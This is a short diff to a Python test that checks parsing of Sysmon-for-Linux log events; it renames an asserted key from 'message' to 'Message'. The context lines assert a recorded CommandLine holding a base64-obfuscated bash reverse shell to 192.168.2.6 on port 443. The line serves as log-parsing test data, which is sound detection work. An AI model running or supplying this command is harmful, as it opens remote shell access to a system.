@@ -227,5 +227,5 @@ def test_real_sysmon_for_linux(real_data: Path) -> None:
         shell["CommandLine"]
         == "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
     )
-    assert "message" not in shell
+    assert "Message" not in shell
     assert shell["_time"].isoformat() == "2022-05-11T18:10:22.003485+00:00"
